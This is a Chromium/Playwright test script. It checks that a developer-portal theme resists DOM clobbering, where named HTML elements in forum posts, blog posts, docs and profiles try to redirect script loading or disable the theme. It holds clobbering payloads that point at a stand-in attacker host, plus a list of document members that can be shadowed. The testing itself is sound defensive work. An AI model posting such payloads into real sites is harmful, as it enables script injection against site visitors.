#!/usr/bin/env node
// Chromium test: DOM clobbering in page content can neither make the theme load a script from elsewhere
// nor stop it (`node test/browser/portal-clobber.mjs [--dist dist/portal] [--port N] [--json file]`).
//
// Named elements (`<img name=X>`, `<form name=X>`, `<embed name=X>`, `<object name=X>`, `<img id=X name=X>`)
// become own properties of `document` that shadow its real members. Authors of forum comments, blog posts,
// docs, custom pages and profile fields can post them. Each payload below goes into the user content of
// several page types; the page is served like the portal serves a theme (/files/ from the deploy folder,
// no CSP: a CSP would hide the attack). Every request to the attacker's host answers a script that counts
// itself in window.__pwned. Two families of names: those that could point the loader at another script
// URL (currentScript, baseURI …; every element kind, on five page types), and those that used to switch
// the theme off (getElementById, createElement, body, title, forms, portalOptions … — 30 document members
// and theme globals; an image and a named form with the same id, on a forum topic and a profile), plus all
// of them at once on every page type. Checks per page:
//   - no script or module request outside this origin's /files/ (the theme's own folder), none executed;
//   - html.complete, the themed root with the page's content type (the theme still renders);
//   - no uncaught page error.
// Needs `npm run build` first.
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { chromium } from 'playwright-core';
import { CHROMIUM_ARGS } from '../../scripts/lib/chromium.mjs';

const args = process.argv.slice(2);
const opt = (name, fallback) => {
  const i = args.indexOf(name);
  return i >= 0 ? args[i + 1] : fallback;
};
const DIST = opt('--dist', 'dist/portal');
const PORT = Number(opt('--port', process.env.PORTAL_CLOBBER_PORT ?? 6219));
const JSON_OUT = opt('--json', null);
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const PAGES = 'fixtures/pages';
const TIMEOUT = 15000;
const ATTACKER = 'https://attacker.invalid';

const results = [];
function record(name, ok, detail = '') {
  results.push({ name, ok, detail });
  console.log(`${ok ? 'PASS' : 'FAIL'}  ${name}${detail && !ok ? `\n      ${detail}` : ''}`);
}
function finish() {
  const passed = results.filter((r) => r.ok).length;
  const failed = results.length - passed;
  console.log(`\nclobber: ${passed} passed, ${failed} failed`);
  if (JSON_OUT) fs.writeFileSync(JSON_OUT, `${JSON.stringify({ passed, failed, results })}\n`);
  process.exit(failed ? 1 : 0);
}
if (!fs.existsSync(path.join(DIST, 'portal.js'))) {
  record('deploy bundle built', false, `${DIST}/portal.js is missing: run \`npm run build\` first`);
  finish();
}

// --- payloads and pages -------------------------------------------------------------------------------
/** names whose shadowing could point the theme at another script URL */
const SCRIPT_URL_NAMES = ['currentScript', 'baseURI', 'URL', 'documentURI'];
const evil = (name) => `${ATTACKER}/${name}/portal.js`;
/** every element kind that creates a document named property, for one name */
const payloadsFor = (name) =>
  [
    { id: `img-name-${name}`, html: `<img name="${name}" src="${evil(name)}" alt="">` },
    { id: `img-id-${name}`, html: `<img id="${name}" name="${name}" src="${evil(name)}" alt="">` },
    { id: `form-${name}`, html: `<form name="${name}" action="${evil(name)}"><input name="src" value="${evil(name)}"></form>` },
    { id: `embed-${name}`, html: `<embed name="${name}" src="${evil(name)}" type="text/plain">` },
    { id: `object-${name}`, html: `<object name="${name}" data="${evil(name)}" type="text/plain"></object>` },
  ].map((p) => ({ ...p, url: evil(name) }));
/**
 * names whose shadowing used to switch the theme off (boot threw, the raw server page came back): document
 * methods and getters the runtime and its libraries call, window globals the theme reads
 */
const SWITCH_OFF_NAMES = [
  'getElementById',
  'createElement',
  'querySelector',
  'querySelectorAll',
  'getElementsByTagName',
  'getElementsByClassName',
  'createTextNode',
  'createDocumentFragment',
  'importNode',
  'body',
  'head',
  'title',
  'forms',
  'images',
  'links',
  'cookie',
  'location',
  'documentElement',
  'defaultView',
  'readyState',
  'activeElement',
  'addEventListener',
  'removeEventListener',
  'dispatchEvent',
  'contains',
  'mashery',
  'portalOptions',
  'mashery_info',
  'initCharts',
  'SyntaxHighlighter',
];
/** an image and a form (named and with the same id) for one name; the image src is a same-site file */
const switchOffPayloadsFor = (name) => [
  { id: `img-name-${name}`, html: `<img name="${name}" src="/public/clobber.png" alt="">`, url: '' },
  { id: `form-id-name-${name}`, html: `<form id="${name}" name="${name}"><input name="${name}"></form>`, url: '' },
];
/** every name and element kind at once */
const ALL_AT_ONCE = {
  id: 'all-names-at-once',
  html:
    SWITCH_OFF_NAMES.map(
      (n) => `<img name="${n}" alt=""><object name="${n}" type="text/plain"></object><div id="${n}"></div>`,
    ).join('') + SCRIPT_URL_NAMES.map((n) => `<img name="${n}" src="${evil(n)}" alt="">`).join(''),
  urls: SCRIPT_URL_NAMES.map(evil),
};
/** pages whose main content carries user-authored HTML (file → content type) */
const PAGE_FILES = ['forumSingle.html', 'blogSingle.html', 'docs.html', 'page.html', 'profile.html'];
/** the switch-off names are tried one by one on these (each on all five pages would triple the run) */
const SWITCH_OFF_PAGES = new Set(['forumSingle.html', 'profile.html']);
const payloadsOf = (file) => [
  ...SCRIPT_URL_NAMES.flatMap(payloadsFor),
  ...(SWITCH_OFF_PAGES.has(file) ? SWITCH_OFF_NAMES.flatMap(switchOffPayloadsFor) : []),
  ALL_AT_ONCE,
];

const index = JSON.parse(fs.readFileSync(path.join(PAGES, 'index.json'), 'utf8'));
const entryOf = (file) => index.find((e) => e.file === file);

/** the page with the payload inside its user content (the first section body, else the start of #main) */
function withPayload(file, payload) {
  const html = fs.readFileSync(path.join(PAGES, file), 'utf8');
  const at = /<div[^>]*class="[^"]*\bsection-body\b[^"]*"[^>]*>/.exec(html) ?? /<div[^>]*id="main"[^>]*>/.exec(html);
  if (!at) throw new Error(`${file}: no place for user content`);
  const end = at.index + at[0].length;
  return html.slice(0, end) + payload + html.slice(end);
}

// --- server -------------------------------------------------------------------------------------------
const types = { '.js': 'text/javascript', '.css': 'text/css', '.html': 'text/html' };
let current = { file: 'page.html', html: '' };
const server = http.createServer((req, res) => {
  const url = new URL(req.url ?? '/', 'http://x');
  if (url.pathname.startsWith('/files/')) {
    const file = path.join(DIST, path.basename(url.pathname));
    if (!fs.existsSync(file)) {
      res.writeHead(404, { 'content-type': 'text/plain' });
      res.end('not found');
      return;
    }
    res.writeHead(200, { 'content-type': types[path.extname(file)] ?? 'application/octet-stream' });
    fs.createReadStream(file).pipe(res);
    return;
  }
  if (url.pathname.startsWith('/public/') || url.pathname === '/favicon.ico') {
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end('');
    return;
  }
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
  res.end(current.html);
});
await new Promise((resolve, reject) => {
  server.once('error', reject);
  server.listen(PORT, '127.0.0.1', resolve);
});
const origin = `http://127.0.0.1:${PORT}`;
const ownFolder = `${origin}/files/`;

const browser = await chromium.launch({
  executablePath: CHROMIUM,
  headless: true,
  args: [...CHROMIUM_ARGS],
});

try {
  const context = await browser.newContext();
  // the attacker's host answers every request with a script that counts its runs
  await context.route(`${ATTACKER}/**`, (route) =>
    route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.__pwned=(window.__pwned||0)+1;' }),
  );
  const page = await context.newPage();
  let log = { scripts: [], errors: [], payloadUrls: [] };
  /** the server page's own <script src> (the bare page loads them too) */
  let serverScripts = new Set();
  page.on('request', (req) => {
    const type = req.resourceType();
    const url = req.url();
    // a script, or a .js file that is not a payload's own src (an <img>/<embed> loads that natively, and
    // an image never runs: late image loads of the previous page may land in this page's log)
    const scriptLike =
      type === 'script' || (type !== 'image' && /\.m?js(\?|$)/.test(new URL(url).pathname) && !log.payloadUrls.includes(url));
    if (scriptLike && !url.startsWith(ownFolder) && !serverScripts.has(url)) log.scripts.push(`${type} ${url}`);
  });
  page.on('pageerror', (error) => log.errors.push(String(error && error.message ? error.message : error)));

  for (const file of PAGE_FILES) {
    const entry = entryOf(file);
    if (!entry) {
      record(`${file}: fixture listed`, false, 'not in fixtures/pages/index.json');
      continue;
    }
    const pathname = new URL(entry.url).pathname + new URL(entry.url).search;
    for (const payload of payloadsOf(file)) {
      current = { file, html: withPayload(file, payload.html) };
      const pageUrl = origin + pathname;
      serverScripts = new Set(
        [...fs.readFileSync(path.join(PAGES, file), 'utf8').matchAll(/<script\b[^>]*\bsrc="([^"]+)"/gi)].map(
          (m) => new URL(m[1].replace(/&amp;/g, '&'), pageUrl).href,
        ),
      );
      log = { scripts: [], errors: [], payloadUrls: payload.urls ?? [payload.url] };
      const name = `${file} + ${payload.id}`;
      try {
        await page.goto(pageUrl, { waitUntil: 'load', timeout: TIMEOUT });
        // read through the prototypes: the payload may shadow any document member the test would use
        await page.waitForFunction(
          () =>
            Object.getOwnPropertyDescriptor(Document.prototype, 'documentElement')
              .get.call(document)
              .classList.contains('complete'),
          null,
          { timeout: TIMEOUT },
        );
        const state = await page.evaluate(() => {
          const root = Document.prototype.querySelector.call(document, '#portal-app[data-content-type]');
          return {
            pwned: window.__pwned ?? 0,
            type: root ? root.getAttribute('data-content-type') : null,
            themed: !!root && root.id === 'portal-app',
          };
        });
        const problems = [];
        if (log.scripts.length) problems.push(`script requests outside ${ownFolder}: ${log.scripts.join(', ')}`);
        if (state.pwned) problems.push(`an injected script ran ${state.pwned}×`);
        if (!state.themed || state.type !== entry.contentType)
          problems.push(`themed root ${state.themed ? state.type : 'missing'} (expected ${entry.contentType})`);
        if (log.errors.length) problems.push(`page errors: ${log.errors.join(' | ')}`);
        record(name, problems.length === 0, problems.join('; '));
      } catch (error) {
        record(name, false, String(error && error.message ? error.message : error).split('\n')[0]);
      }
    }
  }
  await context.close();
} finally {
  await browser.close();
  server.close();
}
finish();
